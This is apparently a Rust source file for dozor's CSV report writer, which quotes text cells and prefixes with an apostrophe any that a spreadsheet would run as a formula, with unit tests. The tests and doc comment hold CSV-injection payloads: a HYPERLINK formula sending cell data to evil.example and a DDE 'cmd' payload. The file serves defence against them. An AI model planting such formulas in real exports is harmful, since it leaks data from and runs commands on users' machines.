//! The one CSV writer of every report dozor writes, for programs and for people, and the one
//! place that decides how a cell is written: its text by the cell's type, quoted where RFC 4180
//! needs it, and a text a spreadsheet would run as a formula neutralised.
//!
//! A spreadsheet opening a CSV reads a cell that starts with `=`, `+`, `-` or `@` (or a tab, a
//! carriage return or a line feed before one, or their full-width forms, which some spreadsheets
//! take for the same) as a formula: `=HYPERLINK("http://…?"&A1,"open")` in a round id a table
//! sent would run on the officer's machine. As OWASP recommends against CSV injection, such a
//! *text* cell (words, identifiers, codes: where a table's text arrives) is written with a
//! single quote before it, and quoted: `"'=HYPERLINK(…)"`. Spreadsheets show it as text, a
//! reader sees the quote. Numbers (amounts, counts, statistics, which may be negative: `-0,50`)
//! are never touched, so a spreadsheet still reads them as numbers; days and times are dozor's
//! own digits. The pages and the JSON answers show every value exactly as received.

use std::borrow::Cow;
use std::io::Write;

use rules::money::koruny_plain;
use rules::spreadsheet::{neutralise, reads_as_formula};

use super::cell::{prague, Cell};
use crate::ReportError;

/// Who reads the file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Audience {
    /// `,` between fields, amounts as integer haléře, codes, times in RFC 3339 UTC.
    Machines,
    /// A byte-order mark (so that a spreadsheet reads the diacritics), `;` between fields,
    /// koruny with a decimal comma, words, days and times in Prague's `d.m.yyyy`.
    People,
}

impl Audience {
    fn delimiter(self) -> u8 {
        match self {
            Audience::Machines => b',',
            Audience::People => b';',
        }
    }
}

/// A field as written: its text, and whether it must be quoted whatever it holds.
struct Field<'a> {
    text: Cow<'a, str>,
    quoted: bool,
}

impl<'a> Field<'a> {
    /// A text cell: neutralised and then quoted when a spreadsheet could read it as a formula.
    fn text(text: &'a str) -> Field<'a> {
        Field {
            text: neutralise(text),
            quoted: reads_as_formula(text),
        }
    }

    /// dozor's own digits (an amount, a count, a day): written as they are.
    fn value(text: String) -> Field<'a> {
        Field {
            text: Cow::Owned(text),
            quoted: false,
        }
    }
}

/// `cell` as `audience` reads it. Only text and coded cells carry text from outside dozor;
/// every other cell is a number, a day or a time that dozor formats itself.
fn field(cell: &Cell, audience: Audience) -> Field<'_> {
    let fixed = |value: f64, places: u8| format!("{value:.prec$}", prec = usize::from(places));
    match (cell, audience) {
        (Cell::Empty, _) => Field::value(String::new()),
        (Cell::Text(t), _) => Field::text(t),
        (Cell::Coded { code, .. }, Audience::Machines) => Field::text(code),
        (Cell::Coded { words, .. }, Audience::People) => Field::text(words),
        (Cell::Money(h), Audience::Machines) | (Cell::Count(h), _) => Field::value(h.to_string()),
        (Cell::Money(h), Audience::People) => Field::value(koruny_plain(*h)),
        (Cell::Day(d), Audience::Machines) => Field::value(d.to_string()),
        (Cell::Day(d), Audience::People) => Field::value(d.format("%d.%m.%Y").to_string()),
        (Cell::Time(t), Audience::Machines) => Field::value(t.to_rfc3339()),
        (Cell::Time(t), Audience::People) => Field::value(prague(*t)),
        (Cell::Percent(p), Audience::Machines) => Field::value(fixed(*p, 4)),
        (Cell::Percent(p), Audience::People) => Field::value(fixed(*p, 2).replace('.', ",")),
        (Cell::Decimal { value, places }, Audience::Machines) => {
            Field::value(fixed(*value, *places))
        }
        (Cell::Decimal { value, places }, Audience::People) => {
            Field::value(fixed(*value, *places).replace('.', ","))
        }
    }
}

/// A CSV file (RFC 4180, UTF-8, CRLF line ends) written row by row into `out`: a heading
/// row, then rows of typed cells, each row as long as the heading.
pub struct CsvWriter<W: Write = Vec<u8>> {
    out: W,
    audience: Audience,
    columns: Option<usize>,
}

fn io_error(e: std::io::Error) -> ReportError {
    ReportError::Csv(e.to_string())
}

impl CsvWriter<Vec<u8>> {
    /// A file for `audience`, in memory (where writing cannot fail).
    pub fn new(audience: Audience) -> CsvWriter<Vec<u8>> {
        let mut out = Vec::new();
        if audience == Audience::People {
            out.extend_from_slice("\u{feff}".as_bytes());
        }
        CsvWriter {
            out,
            audience,
            columns: None,
        }
    }

    /// The file written.
    pub fn into_string(self) -> Result<String, ReportError> {
        String::from_utf8(self.out).map_err(|e| ReportError::Csv(e.to_string()))
    }
}

impl<W: Write> CsvWriter<W> {
    /// A file for `audience` written into `out` as it goes (the byte-order mark first, for
    /// people).
    pub fn from_writer(mut out: W, audience: Audience) -> Result<CsvWriter<W>, ReportError> {
        if audience == Audience::People {
            out.write_all("\u{feff}".as_bytes()).map_err(io_error)?;
        }
        Ok(CsvWriter {
            out,
            audience,
            columns: None,
        })
    }

    /// The heading row: the columns' names, written as text cells.
    pub fn heading<S: AsRef<str>>(
        &mut self,
        names: impl IntoIterator<Item = S>,
    ) -> Result<(), ReportError> {
        let names: Vec<S> = names.into_iter().collect();
        self.record(names.iter().map(|n| Field::text(n.as_ref())))
    }

    /// A row of cells, as many as the heading's columns.
    pub fn row(&mut self, cells: &[Cell]) -> Result<(), ReportError> {
        let audience = self.audience;
        self.record(cells.iter().map(|c| field(c, audience)))
    }

    /// The writer the file went into.
    pub fn into_inner(mut self) -> Result<W, ReportError> {
        self.out.flush().map_err(io_error)?;
        Ok(self.out)
    }

    fn record<'a>(&mut self, fields: impl Iterator<Item = Field<'a>>) -> Result<(), ReportError> {
        let delimiter = self.audience.delimiter();
        let mut line = Vec::new();
        let mut count = 0usize;
        let mut only_empty = true;
        for f in fields {
            if count > 0 {
                line.push(delimiter);
            }
            count += 1;
            only_empty = only_empty && f.text.is_empty();
            write_field(&mut line, &f.text, f.quoted, delimiter);
        }
        match self.columns {
            None => self.columns = Some(count),
            Some(columns) if columns != count => {
                return Err(ReportError::Csv(format!(
                    "a row of {count} cells under {columns} columns"
                )));
            }
            Some(_) => {}
        }
        // A line holding one empty field would read as no field at all.
        if count == 1 && only_empty {
            line.extend_from_slice(b"\"\"");
        }
        line.extend_from_slice(b"\r\n");
        self.out.write_all(&line).map_err(io_error)
    }
}

/// `text` as a field: quoted (its quotes doubled) when it must be, or when it holds the
/// delimiter, a quote or a line end.
fn write_field(line: &mut Vec<u8>, text: &str, quoted: bool, delimiter: u8) {
    let special = |b: u8| b == delimiter || b == b'"' || b == b'\r' || b == b'\n';
    if !quoted && !text.bytes().any(special) {
        line.extend_from_slice(text.as_bytes());
        return;
    }
    line.push(b'"');
    for b in text.bytes() {
        if b == b'"' {
            line.push(b'"');
        }
        line.push(b);
    }
    line.push(b'"');
}

/// A whole CSV for machines: its heading, then a line a row (the shape every report's CSV
/// takes).
pub fn machine_csv<S: AsRef<str>>(
    heading: impl IntoIterator<Item = S>,
    rows: impl IntoIterator<Item = Vec<Cell>>,
) -> Result<String, ReportError> {
    let mut writer = CsvWriter::new(Audience::Machines);
    writer.heading(heading)?;
    for row in rows {
        writer.row(&row)?;
    }
    writer.into_string()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use chrono::{NaiveDate, TimeZone as _, Utc};

    /// A file of one heading `value` and one row of `cells` for `audience`.
    fn written(audience: Audience, cells: &[Cell]) -> String {
        let mut writer = CsvWriter::new(audience);
        writer.heading(cells.iter().map(|_| "value")).unwrap();
        writer.row(cells).unwrap();
        writer.into_string().unwrap()
    }

    /// The file of `cells` for `audience` (`written`) against `expected`.
    fn assert_written(audience: Audience, cells: &[Cell], expected: &str) {
        assert_eq!(written(audience, cells), expected);
    }

    /// The cells of the file's second line as a CSV reader sees them.
    fn read_back(audience: Audience, text: &str) -> Vec<String> {
        let text = text.trim_start_matches('\u{feff}');
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(audience.delimiter())
            .from_reader(text.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        row.iter().map(str::to_owned).collect()
    }

    const DANGEROUS: [&str; 11] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-A1-A1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{FF1D}1+1",
        "\u{FF0B}1+1",
        "\u{FF0D}1+1",
        "\u{FF20}SUM(A1)",
    ];

    #[test]
    fn a_text_a_spreadsheet_would_run_gets_a_quote_before_it_and_is_quoted() {
        for audience in [Audience::Machines, Audience::People] {
            for text in DANGEROUS {
                let file = written(audience, &[Cell::Text(text.into())]);
                let line = file.split_once("\r\n").unwrap().1;
                // The field opens with a double quote and the single quote: no cell starts
                // with the formula's character.
                assert!(line.starts_with("\"'"), "{audience:?} {text:?}: {line:?}");
                assert_eq!(
                    read_back(audience, &file),
                    [format!("'{text}")],
                    "{audience:?} {text:?}"
                );
            }
        }
    }

    #[test]
    fn a_code_for_machines_and_its_words_for_people_are_neutralised_alike() {
        let coded = Cell::Coded {
            code: "-code".into(),
            words: "=words".into(),
        };
        assert_written(
            Audience::Machines,
            std::slice::from_ref(&coded),
            "value\r\n\"'-code\"\r\n",
        );
        assert_written(
            Audience::People,
            &[coded],
            "\u{feff}value\r\n\"'=words\"\r\n",
        );
    }

    #[test]
    fn numbers_stay_numbers_even_when_negative() {
        let cells = [
            Cell::Money(-50),
            Cell::Count(-3),
            Cell::Decimal {
                value: -1.5,
                places: 2,
            },
            Cell::Percent(-2.25),
        ];
        // −50 h is −0,50 Kč for people; every figure is written bare, its minus first.
        assert_written(
            Audience::Machines,
            &cells,
            "value,value,value,value\r\n-50,-3,-1.50,-2.2500\r\n",
        );
        assert_written(
            Audience::People,
            &cells,
            "\u{feff}value;value;value;value\r\n-0,50;-3;-1,50;-2,25\r\n",
        );
    }

    #[test]
    fn a_formula_character_after_the_first_is_harmless_and_left_alone() {
        let cells = [
            Cell::Text("R01-777".into()),
            Cell::Text("a=b".into()),
            Cell::Text(" =1+1".into()),
            Cell::Text("'=1".into()),
        ];
        assert_written(
            Audience::Machines,
            &cells,
            "value,value,value,value\r\nR01-777,a=b, =1+1,'=1\r\n",
        );
    }

    #[test]
    fn harmless_cells_are_written_as_the_csv_crate_writes_them() {
        let texts = [
            "plain",
            "",
            "with, comma",
            "with; semicolon",
            "with \"quotes\"",
            "two\r\nlines",
            "one\nline feed",
            "Ruleta; francouzská",
            "'quoted'",
        ];
        for (audience, delimiter) in [(Audience::Machines, b','), (Audience::People, b';')] {
            let mut expected = csv::WriterBuilder::new()
                .delimiter(delimiter)
                .terminator(csv::Terminator::CRLF)
                .from_writer(Vec::new());
            expected.write_record(texts.map(|_| "value")).unwrap();
            expected.write_record(texts).unwrap();
            let expected = String::from_utf8(expected.into_inner().unwrap()).unwrap();
            let cells: Vec<Cell> = texts.iter().map(|t| Cell::Text((*t).into())).collect();
            let file = written(audience, &cells);
            assert_eq!(
                file.trim_start_matches('\u{feff}'),
                expected,
                "{audience:?}"
            );
        }
    }

    #[test]
    fn days_and_times_are_written_for_their_reader() {
        let day = NaiveDate::from_ymd_opt(2026, 11, 20).unwrap();
        let time = Utc.with_ymd_and_hms(2026, 11, 20, 18, 30, 0).unwrap();
        assert_written(
            Audience::Machines,
            &[Cell::Day(day), Cell::Time(time)],
            "value,value\r\n2026-11-20,2026-11-20T18:30:00+00:00\r\n",
        );
        // 18:30 UTC is 19:30 in Prague in November (CET, UTC+1).
        assert_written(
            Audience::People,
            &[Cell::Day(day), Cell::Time(time)],
            "\u{feff}value;value\r\n20.11.2026;20.11.2026 19:30:00\r\n",
        );
    }

    #[test]
    fn a_row_longer_or_shorter_than_the_heading_is_an_error() {
        let mut writer = CsvWriter::new(Audience::Machines);
        writer.heading(["a", "b"]).unwrap();
        assert!(matches!(
            writer.row(&[Cell::Count(1)]),
            Err(ReportError::Csv(m)) if m == "a row of 1 cells under 2 columns"
        ));
    }

    #[test]
    fn a_line_of_one_empty_field_is_written_as_two_quotes() {
        assert_written(Audience::Machines, &[Cell::Empty], "value\r\n\"\"\r\n");
    }

    #[test]
    fn a_file_streamed_into_a_writer_is_the_file_written_in_memory() {
        let cells = [Cell::Text("-A1-A1".into()), Cell::Money(-50)];
        let mut streamed = CsvWriter::from_writer(Vec::new(), Audience::People).unwrap();
        streamed.heading(["a", "b"]).unwrap();
        streamed.row(&cells).unwrap();
        let streamed = String::from_utf8(streamed.into_inner().unwrap()).unwrap();
        assert_eq!(streamed, "\u{feff}a;b\r\n\"'-A1-A1\";-0,50\r\n");
        let mut in_memory = CsvWriter::new(Audience::People);
        in_memory.heading(["a", "b"]).unwrap();
        in_memory.row(&cells).unwrap();
        assert_eq!(in_memory.into_string().unwrap(), streamed);
    }
}
